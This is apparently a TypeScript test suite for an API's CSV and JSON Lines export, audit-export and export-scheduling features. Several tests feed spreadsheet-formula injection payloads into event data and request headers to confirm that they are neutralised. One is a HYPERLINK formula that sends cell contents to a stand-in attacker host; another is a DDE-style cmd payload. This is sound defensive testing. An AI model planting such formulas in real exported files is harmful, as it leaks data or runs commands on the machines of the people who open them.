import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { call, createTenant, startTestApp, tokenFor, type TestApp } from '../helpers/app';
import { eventually, startWebhookWorker } from '../helpers/webhook-fixtures';
import { seedOperationsEvents } from '../helpers/export-fixtures';
import { EXPORT_KINDS, defineExportSource, exportSource, type ExportSource } from '../../src/domain/exports/sources';
import { exportFilePath } from '../../src/domain/exports/exports';
import { csvField } from '../../src/reference/csv';
import { copyEncoded, encodeBatches, encodeRows, type EncodedChunk, type ExportFormat } from '../../src/domain/exports/writer';

let app: TestApp;
let worker: { stop(): Promise<void> } | undefined;

beforeAll(async () => {
  app = await startTestApp({ TEMPORAL_TASK_QUEUE: `exports-${process.pid}-${Date.now()}` });
  worker = await startWebhookWorker(app.services);
});
afterAll(async () => {
  await worker?.stop();
  await app?.close();
});

async function scenario() {
  const tenant = await createTenant(app.services);
  const token = await tokenFor(app.url, tenant);
  const api = (method: string, path: string, body?: unknown, headers?: Record<string, string>) => call(app.url, method, path, { token, body, headers });
  return { tenant, token, api, scope: `enterprises/${tenant.enterpriseId}` };
}

const T0 = new Date('2026-05-01T00:00:00.000Z');

async function finished(api: (m: string, p: string) => Promise<any>, path: string) {
  return eventually(async () => {
    const res = await api('GET', path);
    return res.body.status !== 'queued' && res.body.status !== 'running' && res.body;
  });
}

async function download(token: string, path: string) {
  const res = await fetch(app.url + path, { headers: { authorization: `Bearer ${token}` } });
  return { res, bytes: Buffer.from(await res.arrayBuffer()) };
}

describe('operations activity exports', () => {
  it('streams the rows in range to a CSV whose checksum matches the downloaded bytes', async () => {
    const s = await scenario();
    await seedOperationsEvents(app.services.sql, s.tenant.enterpriseId, 500, T0);
    const created = await s.api('POST', '/operations-activity-exports', {
      scope_ref: s.scope,
      from: T0.toISOString(),
      to: new Date(T0.getTime() + 300_000).toISOString(),
      format: 'csv',
    });
    expect(created.status).toBe(202);
    expect(created.body).toMatchObject({ resource: 'operations_activity_export', status: 'queued', row_count: null, download_path: null });
    const done = await finished(s.api, `/operations-activity-exports/${created.body.id}`);
    expect(done).toMatchObject({ status: 'completed', row_count: 300, failure_reason: null, download_path: `/operations-activity-exports/${created.body.id}/download` });

    const { res, bytes } = await download(s.token, done.download_path);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="operations-activity-exports-${done.id}.csv"`);
    expect(bytes.length).toBe(done.byte_size);
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(done.sha256);
    expect(res.headers.get('repr-digest')).toBe(`sha-256=:${createHash('sha256').update(bytes).digest('base64')}:`);

    const lines = bytes.toString('utf8').trimEnd().split('\r\n');
    expect(lines[0]).toBe('occurred_at,event_id,event_type,resource_ref,scope_ref,family,status,principal_currency,principal_value,fee_currency,fee_total,subject_kind,subject_id,reference,metadata');
    expect(lines).toHaveLength(301);
    expect(lines[1]).toMatch(/^2026-05-01T00:00:00\.000Z,[0-9a-f-]{36},operations\.internal_transfer\.executed\.v1,internal-transfers\/[0-9a-f-]{36},enterprises\/[0-9a-f-]{36},internal_transfer,executed,USDC,100\.25,USDC,1\.50,user,[0-9a-f-]{36},,$/);
    expect(lines[97]).toContain(',"internal_transfer, ""quoted""",');

    const events = await s.api('GET', `/events?resource_ref=operations-activity-exports/${done.id}`);
    expect(events.body.items.map((e: any) => e.type)).toEqual(['exports.export.queued.v1', 'exports.export.completed.v1']);
  });

  it('writes JSON Lines, and an empty range is an empty (but completed) export', async () => {
    const s = await scenario();
    await seedOperationsEvents(app.services.sql, s.tenant.enterpriseId, 20, T0);
    const jsonl = await s.api('POST', '/operations-activity-exports', { scope_ref: s.scope, from: T0.toISOString(), to: '2026-05-02T00:00:00Z', format: 'jsonl' });
    const done = await finished(s.api, `/operations-activity-exports/${jsonl.body.id}`);
    const { res, bytes } = await download(s.token, done.download_path);
    expect(res.headers.get('content-type')).toBe('application/x-ndjson');
    const rows = bytes.toString('utf8').trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(rows).toHaveLength(20);
    expect(rows[19]).toMatchObject({ principal_value: '2000.25', status: 'executed' });
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(done.sha256);

    const empty = await s.api('POST', '/operations-activity-exports', { scope_ref: s.scope, from: '2020-01-01T00:00:00Z', to: '2020-01-02T00:00:00Z', format: 'jsonl' });
    expect(await finished(s.api, `/operations-activity-exports/${empty.body.id}`)).toMatchObject({ status: 'completed', row_count: 0, byte_size: 0 });
  });

  it('neutralises formula cells (CSV injection) while negative amounts stay numbers', async () => {
    const s = await scenario();
    // Event payloads carry text the API accepted from users; amounts are formatted by the ledger.
    const cells = [
      ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '+1+1', '-10.00', '-1.50', '@SUM(A1:A9)', "=cmd|' /C calc'!A0", { note: '=1+1', '@k': '-2+3' }],
      ['-2+3', '\tTAB', '-1+1', '7', '\rCR', null, {}],
    ] as const;
    for (const [i, [family, status, principal, fee, subject, reference, metadata]] of cells.entries()) {
      const payload = { family, status, principal_amount: { currency: 'USDC', value: principal }, fee_summary: { total: { currency: 'USDC', value: fee } }, reference, metadata };
      await app.services.sql`
        insert into events (id, type, enterprise_id, scope_ref, resource_ref, payload, attribution, occurred_at, dispatched_at)
        values (gen_random_uuid(), 'operations.internal_transfer.executed.v1', ${s.tenant.enterpriseId}, ${s.scope}, ${`internal-transfers/${i}`},
                ${app.services.sql.json(payload)},
                ${app.services.sql.json({ subject: { kind: 'user', id: subject } })}, ${new Date(T0.getTime() + i * 1000)}, now())`;
    }
    const created = await s.api('POST', '/operations-activity-exports', { scope_ref: s.scope, from: T0.toISOString(), to: new Date(T0.getTime() + 60_000).toISOString(), format: 'csv' });
    const done = await finished(s.api, `/operations-activity-exports/${created.body.id}`);
    expect(done).toMatchObject({ status: 'completed', row_count: 2 });
    const { bytes } = await download(s.token, done.download_path);
    const lines = bytes.toString('utf8').split('\r\n');
    // From `family` on: family, status, principal_currency, principal_value, fee_currency, fee_total, subject_kind, subject_id, reference, metadata.
    const tail = (line: string) => line.split(',').slice(5).join(',');
    // The integrator's reference is neutralised; metadata is its JSON object, whose cell starts with `{`.
    expect(tail(lines[1])).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'+1+1",USDC,-10.00,USDC,-1.50,user,"'@SUM(A1:A9)","'=cmd|' /C calc'!A0","{""@k"": ""-2+3"", ""note"": ""=1+1""}"`,
    );
    // A non-decimal in an amount column is text like any other.
    expect(tail(lines[2])).toBe(`"'-2+3","'\tTAB",USDC,"'-1+1",USDC,7,user,"'\rCR",,{}`);
  });

  it.each([
    { name: 'from after to', body: { from: '2026-05-02T00:00:00Z', to: '2026-05-01T00:00:00Z' }, status: 422, pointer: '/body/to' },
    { name: 'unknown format', body: { format: 'xlsx' }, status: 400, pointer: '/body/format' },
    { name: 'not a timestamp', body: { from: 'yesterday' }, status: 400, pointer: '/body/from' },
    { name: 'unknown field', body: { colour: 'red' }, status: 400, pointer: '/body/colour' },
  ])('refuses $name', async ({ body, status, pointer }) => {
    const s = await scenario();
    const res = await s.api('POST', '/operations-activity-exports', { scope_ref: s.scope, from: '2026-05-01T00:00:00Z', to: '2026-05-02T00:00:00Z', ...body });
    expect(res.status).toBe(status);
    expect(res.body.errors.map((e: any) => e.pointer)).toContain(pointer);
  });

  it('another enterprise cannot see, download or create in a foreign scope', async () => {
    const a = await scenario();
    const created = await a.api('POST', '/operations-activity-exports', { scope_ref: a.scope, from: '2020-01-01T00:00:00Z', to: '2020-01-02T00:00:00Z' });
    await finished(a.api, `/operations-activity-exports/${created.body.id}`);
    const b = await scenario();
    expect((await b.api('GET', `/operations-activity-exports/${created.body.id}`)).status).toBe(404);
    expect((await b.api('GET', `/operations-activity-exports/${created.body.id}/download`)).status).toBe(404);
    expect((await b.api('GET', '/operations-activity-exports')).body.items).toEqual([]);
    expect((await b.api('POST', '/operations-activity-exports', { scope_ref: a.scope, from: '2020-01-01T00:00:00Z', to: '2020-01-02T00:00:00Z' })).status).toBe(404);
    expect((await b.api('GET', `/user-action-audit-exports/${created.body.id}`)).status).toBe(404);
  });

  it('deletes the file at expiry: the export is expired and its download is 410', async () => {
    const s = await scenario();
    app.services.config.exportRetentionSeconds = 1;
    let created;
    try {
      created = await s.api('POST', '/operations-activity-exports', { scope_ref: s.scope, from: '2020-01-01T00:00:00Z', to: '2020-01-02T00:00:00Z' });
    } finally {
      app.services.config.exportRetentionSeconds = 7 * 86400;
    }
    const expired = await eventually(async () => {
      const res = await s.api('GET', `/operations-activity-exports/${created.body.id}`);
      return res.body.status === 'expired' && res.body;
    });
    expect(expired.download_path).toBeNull();
    expect(existsSync(exportFilePath(app.config.dataDir, expired))).toBe(false);
    const gone = await s.api('GET', `/operations-activity-exports/${created.body.id}/download`);
    expect(gone.status).toBe(410);
  });
});

describe('user action audit exports', () => {
  it('exports the audit trail of the enterprise in range, from user_action_audit_entries', async () => {
    const s = await scenario();
    const from = new Date().toISOString();
    const client = await s.api('POST', '/clients', { display_name: 'Audited', external_id: `audit-${Date.now()}`, scope_ref: s.scope });
    const updated = await s.api('PATCH', `/enterprises/${s.tenant.enterpriseId}`, { metadata: { a: 'b' } });
    const stale = await s.api('PATCH', `/enterprises/${s.tenant.enterpriseId}`, { metadata: { a: 'c' } }, { 'if-match': '"stale"' });
    expect([client.status, updated.status, stale.status]).toEqual([201, 200, 412]);
    const to = new Date().toISOString();
    // Another enterprise's entries in the same range stay out.
    const other = await scenario();
    await other.api('PATCH', `/enterprises/${other.tenant.enterpriseId}`, { metadata: { x: 'y' } });

    const exportOf = async (scope_ref: string, format: string) => {
      const created = await s.api('POST', '/user-action-audit-exports', { scope_ref, from, to, format });
      expect(created.status).toBe(202);
      expect(created.body.resource).toBe('user_action_audit_export');
      return finished(s.api, `/user-action-audit-exports/${created.body.id}`);
    };
    const jsonl = await exportOf(s.scope, 'jsonl');
    expect(jsonl).toMatchObject({ status: 'completed', row_count: 3 });
    const { bytes } = await download(s.token, jsonl.download_path);
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(jsonl.sha256);
    const rows = bytes.toString('utf8').trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(rows.map((r) => [r.action, r.method, r.outcome, r.status_code, r.error_code])).toEqual([
      ['createClient', 'POST', 'succeeded', 201, null],
      ['updateEnterprise', 'PATCH', 'succeeded', 200, null],
      ['updateEnterprise', 'PATCH', 'refused', 412, 'EdgePreconditionFailed'],
    ]);
    expect(rows[0]).toMatchObject({ resource_ref: `clients/${client.body.id}`, subject_kind: 'service_account', subject_id: s.tenant.serviceAccountId });

    // The list shows the enterprise's own export.
    const listed = await s.api('GET', '/user-action-audit-exports');
    expect(listed.body.items.map((e: { id: string }) => e.id)).toEqual([jsonl.id]);

    const csv = await exportOf(s.scope, 'csv');
    const file = await download(s.token, csv.download_path);
    expect(createHash('sha256').update(file.bytes).digest('hex')).toBe(csv.sha256);
    const lines = file.bytes.toString('utf8').trimEnd().split('\r\n');
    expect(lines[0]).toBe(
      'occurred_at,entry_id,request_id,action,method,path,resource_ref,outcome,status_code,error_code,subject_kind,subject_id,actor_kind,actor_id,authenticated_principal_id,identity_source,client_ip,user_agent,idempotency_key',
    );
    expect(lines).toHaveLength(4);

    // Entries belong to the enterprise: an export scoped to a client has none.
    expect(await exportOf(`clients/${client.body.id}`, 'csv')).toMatchObject({ status: 'completed', row_count: 0 });
  });

  it('neutralises a User-Agent or Idempotency-Key that would run as a formula in a spreadsheet', async () => {
    const s = await scenario();
    const from = new Date().toISOString();
    const agent = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    const updated = await s.api('PATCH', `/enterprises/${s.tenant.enterpriseId}`, { metadata: { a: 'b' } }, { 'user-agent': agent, 'idempotency-key': '@SUM(1+1)*cmd' });
    const refused = await s.api('PATCH', `/enterprises/${s.tenant.enterpriseId}`, { metadata: { a: 'c' } }, { 'user-agent': '-2+3', 'if-match': '"stale"' });
    expect([updated.status, refused.status]).toEqual([200, 412]);
    const created = await s.api('POST', '/user-action-audit-exports', { scope_ref: s.scope, from, to: new Date().toISOString(), format: 'csv' });
    const done = await finished(s.api, `/user-action-audit-exports/${created.body.id}`);
    expect(done).toMatchObject({ status: 'completed', row_count: 2 });
    const [, first, second] = (await download(s.token, done.download_path)).bytes.toString('utf8').split('\r\n');
    expect(first).toContain(',PATCH,');
    expect(first.endsWith(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'@SUM(1+1)*cmd"`)).toBe(true);
    // status_code is a numeric column: 412 stays a number.
    expect(second).toMatch(/,refused,412,EdgePreconditionFailed,.*,"'-2\+3",$/);
  });

  it('a source that fails ends the export in failed with a reason', async () => {
    const s = await scenario();
    const original = exportSource('user_action_audit');
    const broken: ExportSource = {
      columns: ['x'],
      rows: () => ({
        [Symbol.asyncIterator]: () => ({ next: () => Promise.reject(new Error('source unavailable')) }),
      }),
    };
    defineExportSource('user_action_audit', broken);
    try {
      const created = await s.api('POST', '/user-action-audit-exports', { scope_ref: s.scope, from: '2020-01-01T00:00:00Z', to: '2020-01-02T00:00:00Z' });
      const done = await finished(s.api, `/user-action-audit-exports/${created.body.id}`);
      expect(done).toMatchObject({ status: 'failed', failure_reason: 'source unavailable', download_path: null, sha256: null });
      expect((await s.api('GET', `/user-action-audit-exports/${created.body.id}/download`)).status).toBe(409);
    } finally {
      defineExportSource('user_action_audit', original);
    }
  });
});

describe('every export source written as CSV', () => {
  const FORMULAS = ['=1+1', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'];

  it.each(EXPORT_KINDS)('%s: a cell starting with a formula character is written behind a quote, in every column', (kind) => {
    const source = exportSource(kind);
    for (const value of FORMULAS) {
      const line = encodeRows([Object.fromEntries(source.columns.map((c) => [c, value]))], source.columns, 'csv', source.numeric);
      expect(line).toBe(`${source.columns.map(() => `"'${value}"`).join(',')}\r\n`);
    }
    // A plain negative decimal stays a number only in the columns the source formats as amounts.
    const decimals = encodeRows([Object.fromEntries(source.columns.map((c) => [c, '-10.00']))], source.columns, 'csv', source.numeric);
    expect(decimals).toBe(`${source.columns.map((c) => (source.numeric?.includes(c) ? '-10.00' : `"'-10.00"`)).join(',')}\r\n`);
  });

  it("the console's statement download follows the same rule", () => {
    expect(FORMULAS.map(csvField)).toEqual(FORMULAS.map((v) => `"'${v}"`));
    expect(['-10.00', '12.5', 'deposit', 'a,b'].map(csvField)).toEqual(['-10.00', '12.5', 'deposit', '"a,b"']);
  });
});

describe('rows encoded by PostgreSQL (COPY) and by the worker', () => {
  const bytesOf = async (chunks: AsyncIterable<EncodedChunk>) => {
    const out: Buffer[] = [];
    for await (const c of chunks) out.push(c.bytes);
    return Buffer.concat(out);
  };
  // Quotes, separators, line breaks, NULL vs empty, non-ASCII, control characters, and `%`/`$` (the COPY command is built with format()).
  const query = {
    text: `select a, b, c from (values ('plain', 'x,y', null), ('q"uote', e'line\nbreak', e'cr\r'), ('', e'tab\there', e'uni ✓ é \x01 ctl'),
             ($1::text, $2::text, 'pct % and $ sign'), (e'back\\slash', '{"j":1}', 'ok')) v(a, b, c)
            where cardinality($3::text[]) = 2`,
    params: ["it's", 'dollar $1 here', ['ok', 'a"b,c\\d']],
  };

  it.each<ExportFormat>(['csv', 'jsonl'])('%s: the same bytes either way', async (format) => {
    const { sql } = app.services;
    const viaCopy = await bytesOf(copyEncoded(sql, query, ['a', 'b', 'c'], format));
    const viaRows = await bytesOf(encodeBatches(sql.unsafe(query.text, query.params as never[]).cursor(2), ['a', 'b', 'c'], format));
    expect(viaCopy.toString('utf8')).toBe(viaRows.toString('utf8'));
    expect(viaCopy.toString('utf8').split(format === 'csv' ? '\r\n' : '\n').filter(Boolean).length).toBeGreaterThanOrEqual(5);
  });

  it('neutralises formula cells the same way either way; a numeric column keeps its decimals', async () => {
    const { sql } = app.services;
    const cells = {
      text: `select t, n from (values ('=1+2', '-10.00'), ('+x', '+5'), ('-3', '-1+1'), ('@a', '12.5'), (e'\\tt', e'\\r1'), ('a=b', '-0.01'), ('"-q"', null)) v(t, n)`,
      params: [],
    };
    const viaCopy = (await bytesOf(copyEncoded(sql, cells, ['t', 'n'], 'csv', ['n']))).toString('utf8');
    const viaRows = (await bytesOf(encodeBatches(sql.unsafe(cells.text).cursor(3), ['t', 'n'], 'csv', ['n']))).toString('utf8');
    expect(viaCopy).toBe(viaRows);
    expect(viaCopy.split('\r\n')).toEqual([`"'=1+2",-10.00`, `"'+x","'+5"`, `"'-3","'-1+1"`, `"'@a",12.5`, `"'\tt","'\r1"`, 'a=b,-0.01', '"""-q""",', '']);
  });

  it('keeps every row whole across chunk boundaries, including a row larger than a chunk', async () => {
    const { sql } = app.services;
    // ~1.2 MB of 400-byte rows (several 256 KiB chunks), with a 300 KiB row in the middle.
    const big = { text: `select n::text as n, case when n = 1500 then repeat('B', 300 * 1024) else repeat(chr(65 + n % 26), 400) end as body from generate_series(1, 3000) n`, params: [] };
    const chunks: EncodedChunk[] = [];
    for await (const c of copyEncoded(sql, big, ['n', 'body'], 'csv')) chunks.push(c);
    expect(chunks.length).toBeGreaterThan(3);
    expect(chunks.reduce((n, c) => n + c.rows, 0)).toBe(3000);
    const viaRows = await bytesOf(encodeBatches(sql.unsafe(big.text).cursor(100), ['n', 'body'], 'csv'));
    expect(Buffer.concat(chunks.map((c) => c.bytes)).equals(viaRows)).toBe(true);
  });
});

describe('export schedules on Temporal Schedules', () => {
  it('runs on trigger and backfill, one export per scheduled time, and pauses and unpauses', async () => {
    const s = await scenario();
    await seedOperationsEvents(app.services.sql, s.tenant.enterpriseId, 50, new Date('2026-03-01T00:00:00Z'));
    const created = await s.api('POST', '/export-schedules', {
      kind: 'operations_activity',
      format: 'csv',
      scope_ref: s.scope,
      spec: { cron: '15 0 * * *' },
      range: { type: 'previous_utc_day' },
    });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ resource: 'export_schedule', status: 'active', temporal_schedule_id: `export-schedule/${created.body.id}` });
    expect(created.body.next_run_times[0]).toMatch(/T00:15:00\.000Z$/);
    const path = `/export-schedules/${created.body.id}`;
    expect((await s.api('GET', path)).body).toMatchObject({ id: created.body.id, status: 'active', etag: created.body.etag });
    expect((await s.api('GET', '/export-schedules')).body.items.map((x: { id: string }) => x.id)).toEqual([created.body.id]);

    // The run scheduled for 2026-03-02 00:15 exports 2026-03-01, the day the rows were seeded.
    const backfill = await s.api('POST', `${path}/backfill`, { start_time: '2026-03-02T00:00:00Z', end_time: '2026-03-03T00:00:00Z' });
    expect(backfill.status).toBe(202);
    const runs = `/operations-activity-exports?schedule_id=${created.body.id}`;
    const [run] = await eventually(async () => {
      const items = (await s.api('GET', runs)).body.items;
      return items.length === 1 && items[0].status === 'completed' && items;
    });
    expect(run).toMatchObject({
      schedule_ref: `export-schedules/${created.body.id}`,
      scheduled_for: '2026-03-02T00:15:00.000Z',
      from: '2026-03-01T00:00:00.000Z',
      to: '2026-03-02T00:00:00.000Z',
      row_count: 50,
    });

    const triggered = await s.api('POST', `${path}/trigger`);
    expect(triggered.status).toBe(202);
    await eventually(async () => (await s.api('GET', runs)).body.items.length === 2);

    const paused = await s.api('POST', `${path}/pause`);
    expect(paused.body.status).toBe('paused');
    const stale = await s.api('POST', `${path}/unpause`, undefined, { 'if-match': created.body.etag });
    expect(stale.status).toBe(412);
    const unpaused = await s.api('POST', `${path}/unpause`, undefined, { 'if-match': paused.body.etag });
    expect(unpaused.body.status).toBe('active');
    const deleted = await s.api('POST', `${path}/delete`);
    expect(deleted.body.status).toBe('deleted');
    expect((await s.api('POST', `${path}/trigger`)).status).toBe(409);
    const types = (await s.api('GET', `/events?resource_ref=export-schedules/${created.body.id}`)).body.items.map((e: any) => e.type);
    expect(types).toEqual(['exports.schedule.created.v1', 'exports.schedule.paused.v1', 'exports.schedule.unpaused.v1', 'exports.schedule.deleted.v1']);
  });

  it.each([
    { name: 'an invalid cron expression', body: { spec: { cron: 'every tuesday' } }, status: 422, pointer: '/body/spec/cron' },
    { name: 'trailing without seconds', body: { range: { type: 'trailing' } }, status: 400, pointer: '/body/range' },
    { name: 'both cron and interval', body: { spec: { cron: '0 0 * * *', interval_seconds: 60 } }, status: 400, pointer: '/body/spec' },
  ])('refuses $name', async ({ body, status, pointer }) => {
    const s = await scenario();
    const res = await s.api('POST', '/export-schedules', {
      kind: 'operations_activity',
      scope_ref: s.scope,
      spec: { interval_seconds: 3600 },
      range: { type: 'trailing', seconds: 3600 },
      ...body,
    });
    expect(res.status).toBe(status);
    expect(res.body.errors.map((e: any) => e.pointer)).toContain(pointer);
  });
});
